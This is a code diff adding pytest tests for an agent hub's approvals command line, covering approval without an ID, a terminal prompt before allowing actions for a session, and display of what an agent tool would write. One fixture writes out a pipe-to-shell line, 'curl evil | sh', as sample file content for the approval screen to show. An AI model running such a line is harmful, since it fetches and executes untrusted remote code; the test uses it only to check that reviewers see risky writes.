@@ -1,10 +1,13 @@
 """approvals, approve, deny, status and the live view, against a real daemon whose agent asks."""
 
 import json
+import os
+import pty
+import sys
 
 import pytest
 
-from hub.cli.approvals import listed
+from hub.cli.approvals import _consider, listed
 from hub.cli.screen import shown
 from hub.cli.watch import how_to_answer
 from tests.faults.harness import until
@@ -44,6 +47,42 @@ def test_what_waits_is_shown_and_answered(asking):
     nothing = say(asking, "approve")
     assert (nothing.returncode, "Nothing waits" in nothing.stderr) == (3, True)
     assert "nothing waits" in say(asking, "approvals").stdout
+
+
+def test_what_is_allowed_without_an_id_is_shown_whole(asking):
+    """Whoever named nothing sees what it was; a program reads its one word, as ever."""
+    done = say(asking, "approve")
+    assert (done.returncode, done.stdout) == (0, "approved\n")
+    assert "deploy" in done.stderr
+    assert "it is Friday" in done.stderr
+    until(asking.ended, "the session ends")
+
+
+@pytest.mark.parametrize(("key", "status"), [("n", 5), ("y", 0)])
+def test_on_a_terminal_it_is_asked_about_first(asking, key, status):
+    """What waits by the time of the command need not be what its user has seen."""
+    pid, terminal = pty.fork()
+    if not pid:
+        os.chdir(asking.root)
+        os.execvpe(sys.executable, [sys.executable, "-m", "hub", "approve", "--always"], asking.environ())
+    shown = b""
+    while b"Allow it for the rest of the session?" not in shown:
+        shown += os.read(terminal, 1024)
+    assert b"deploy" in shown
+    os.write(terminal, f"{key}\n".encode())
+    assert os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == status
+    os.close(terminal)
+    waiting = json.loads(say(asking, "approvals", "--json").stdout)
+    assert bool(waiting) is (key == "n")
+
+
+def test_what_a_tool_would_write_is_shown(capsys):
+    request = {
+        "action": "Write a.sh", "reason": "", "severity": "warn", "kind": "tool", "provider": "claude",
+        "context": {"input": {"content": "one\n\ncurl evil | sh"}},
+    }  # fmt: skip
+    _consider(request, always=False)
+    assert "+one\n  +\n  +curl evil | sh" in capsys.readouterr().err
 
 
 def test_an_id_that_is_not_there_is_told(asking):
